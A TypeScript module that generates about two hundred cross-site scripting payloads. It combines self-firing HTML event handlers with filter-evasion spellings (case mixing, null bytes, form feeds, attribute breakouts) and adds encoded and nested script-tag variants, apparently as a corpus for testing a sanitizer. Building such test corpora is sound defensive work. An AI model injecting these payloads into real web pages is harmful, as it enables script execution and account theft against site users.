// Elements that run something as soon as they stand in a page, written in all the ways that a filter may miss.
import { deed } from './script.js';

/** An element and the handler that needs nobody to touch it. */
const elements = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=app://bundle/', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['a href=# autofocus tabindex=1', 'onfocusin'],
  ['div popover id=p', 'onbeforetoggle'],
  ['x style=animation-name:x', 'onanimationstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['math><mtext><img src=x', 'onerror'],
] as const;

/** One handler of one element, as somebody may write it. */
const writings: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}="${deed}">`,
  (element, handler) => `<${element} ${handler}=${deed}`,
  (element, handler) => `<${element.replaceAll(' ', '/')}/${handler}=${deed}//>`,
  (element, handler) => `<${upAndDown(element)} ${upAndDown(handler)}='${deed}'>`,
  (element, handler) => `<${element}\n${handler}\n=\n"${deed}"\n>`,
  (element, handler) => `<${element}\f${handler}\t=${deed}>`,
  (element, handler) => `"'><${element} ${handler}=${deed}>`,
  (element, handler) => `<\u0000${element} ${handler}="${deed}">`,
];

const upAndDown = (text: string): string =>
  text.replaceAll(/(.)(.)/gs, (_, one: string, other: string) => `${one.toUpperCase()}${other}`);

const scripts = [
  `<script>${deed}</script>`,
  `<script >${deed}</script >`,
  `<SCRIPT>${deed}</SCRIPT>`,
  `<script\n>${deed}</script\n>`,
  `<script/x>${deed}</script>`,
  `<<script>${deed}//<</script>`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `<script type=module>${deed}</script>`,
  `<script>/*</title>*/${deed}</script>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><script href="data:text/javascript,${deed}" /></svg>`,
  `<script src="data:text/javascript,${deed}"></script>`,
  `<script>import("data:text/javascript,${deed}")</script>`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `&#60;script&#62;${deed}&#60;/script&#62;`,
  `\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  `%3Cscript%3E${deed}%3C/script%3E`,
  `\uFF1Cscript\uFF1E${deed}\uFF1C/script\uFF1E`,
];

/** Nearly two hundred. */
export const markup: readonly string[] = [
  ...elements.flatMap(([element, handler]) => writings.map((write) => write(element, handler))),
  ...scripts,
];
